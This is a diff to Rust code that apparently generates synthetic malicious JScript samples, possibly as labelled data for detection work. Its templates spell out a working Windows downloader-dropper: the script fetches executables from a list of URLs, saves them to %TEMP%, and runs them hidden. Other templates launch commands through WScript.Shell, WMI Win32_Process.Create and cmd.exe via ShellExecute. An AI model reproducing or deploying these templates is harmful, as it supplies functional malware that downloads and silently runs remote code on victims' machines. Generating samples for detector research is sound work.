@@ -24,14 +24,14 @@ fn list_of_servers(dice: &mut Dice, truth: &mut Truth) -> String {
         (0..2 + dice.below(4)).map(|_| truth.url(dice, &["", ".exe", ".php"])).collect();
     let mark = dice.pick(&["@", "*", "|", "#", " "]);
     let (before, list) = if dice.chance(50) {
-        (String::new(), format!("«{}».split('{mark}')", urls.join(mark)))
+        (String::new(), format!("(«{}»).split('{mark}')", urls.join(mark)))
     } else {
         let mut before = String::new();
         let words: Vec<String> = urls.iter().map(|it| old(dice, it, &mut before)).collect();
         (before, format!("[{}]", words.join(", ")))
     };
     put(
-        "@BEFORE@var @LIST@ = @URLS@;\nvar @SHELL@ = new ActiveXObject(«WScript.Shell»);\nvar @PATH@ = @SHELL@[«ExpandEnvironmentStrings»](«%TEMP%») + «\\\\@FILE@.exe»;\nfor (var @I@ = 0; @I@ < @LIST@.length; @I@++) {\n  try {\n    var @HTTP@ = new ActiveXObject(«MSXML2.XMLHTTP»);\n    @HTTP@[«open»](«GET», @LIST@[@I@], false);\n    @HTTP@[«send»]();\n    if (@HTTP@[«status»] == 200) {\n      var @STREAM@ = new ActiveXObject(«ADODB.Stream»);\n      @STREAM@[«open»]();\n      @STREAM@[«type»] = 1;\n      @STREAM@[«write»](@HTTP@[«ResponseBody»]);\n      if (@STREAM@[«size»] > 20000) {\n        @STREAM@[«position»] = 0;\n        @STREAM@[«saveToFile»](@PATH@, 2);\n        @SHELL@[«Run»](@PATH@, 0, 0);\n        break;\n      }\n      @STREAM@[«close»]();\n    }\n  } catch (@E@) {}\n}\n",
+        "@BEFORE@var @LIST@ = @URLS@;\nvar @SHELL@ = new ActiveXObject(«WScript.Shell»);\nvar @PATH@ = @SHELL@[«ExpandEnvironmentStrings»](«%TEMP%») + '\\x5c' + «@FILE@.exe»;\nfor (var @I@ = 0; @I@ < @LIST@.length; @I@++) {\n  try {\n    var @HTTP@ = new ActiveXObject(«MSXML2.XMLHTTP»);\n    @HTTP@[«open»](«GET», @LIST@[@I@], false);\n    @HTTP@[«send»]();\n    if (@HTTP@[«status»] == 200) {\n      var @STREAM@ = new ActiveXObject(«ADODB.Stream»);\n      @STREAM@[«open»]();\n      @STREAM@[«type»] = 1;\n      @STREAM@[«write»](@HTTP@[«ResponseBody»]);\n      if (@STREAM@[«size»] > 20000) {\n        @STREAM@[«position»] = 0;\n        @STREAM@[«saveToFile»](@PATH@, 2);\n        @SHELL@[«Run»](@PATH@, 0, 0);\n        break;\n      }\n      @STREAM@[«close»]();\n    }\n  } catch (@E@) {}\n}\n",
         &[
             ("BEFORE", &before),
             ("URLS", &list),
@@ -117,12 +117,15 @@ fn runs_command(dice: &mut Dice, truth: &mut Truth) -> String {
     let command =
         format!("'{}' + {word} + '{}'", front.replace('\'', "\\x27"), back.replace('\'', "\\x27"));
     match dice.below(4) {
-        0 => format!("{before}var {shell} = new ActiveXObject(«WScript.Shell»);\n{shell}[«Run»]({command}, 0, false);\n"),
-        1 => format!("{before}var {shell} = WScript.CreateObject(«WScript.Shell»);\n{shell}[«Exec»]({command});\n"),
+        0 => format!(
+            "{before}var {shell} = new ActiveXObject(«WScript.Shell»);\n{shell}[«Run»]({command}, 0, false);\n"
+        ),
+        1 => format!(
+            "{before}var {shell} = WScript.CreateObject(«WScript.Shell»);\n{shell}[«Exec»]({command});\n"
+        ),
         2 => format!(
-            "{before}var {shell} = GetObject(«winmgmts:root\\x5ccimv2:Win32_Process»);\n{shell}[«Create»]({command}, null, null, null);\n"
-        )
-        .replace("«winmgmts:root\\x5ccimv2:Win32_Process»", "\"winmgmts:root\\\\cimv2:Win32_Process\""),
+            "{before}var {shell} = GetObject('winmgmts:root\\x5ccimv2:Win32_Process');\n{shell}[«Create»]({command}, null, null, null);\n"
+        ),
         _ => format!(
             "{before}new ActiveXObject(«Shell.Application»)[«ShellExecute»](«cmd.exe», '/c ' + {command}, '', «open», 0);\n"
         ),
